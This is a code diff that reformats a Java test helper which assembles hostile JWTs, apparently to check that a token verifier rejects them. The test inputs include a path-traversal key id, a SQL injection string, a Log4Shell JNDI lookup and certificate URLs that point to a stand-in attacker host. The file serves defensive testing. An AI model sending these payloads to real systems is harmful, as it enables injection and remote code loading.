@@ -112,12 +112,19 @@ final class HostileTokens {
         hostile.put(
                 "a key id that is a path",
                 draft.header("kid", "../../../../dev/null").sign());
-        List.of("' OR 1=1 --", "${jndi:ldap://evil.example.com/a}", "https://evil.example.com/key", key.getKeyId() + " ")
-                .forEach(id -> hostile.put("the key id " + id, draft.header("kid", id).sign()));
+        List.of(
+                        "' OR 1=1 --",
+                        "${jndi:ldap://evil.example.com/a}",
+                        "https://evil.example.com/key",
+                        key.getKeyId() + " ")
+                .forEach(id ->
+                        hostile.put("the key id " + id, draft.header("kid", id).sign()));
         hostile.put(
                 "a certificate's address in the header",
                 draft.header("x5u", "https://evil.example.com/cert.pem").sign());
-        hostile.put("a certificate in the header", draft.header("x5c", List.of("MIIB")).sign());
+        hostile.put(
+                "a certificate in the header",
+                draft.header("x5c", List.of("MIIB")).sign());
         hostile.putAll(HostilePayloads.of(draft.sign(), key));
         hostile.put("another signature", changedSignature(draft.sign()));
         hostile.put("other claims under the signature", changedClaims(draft));
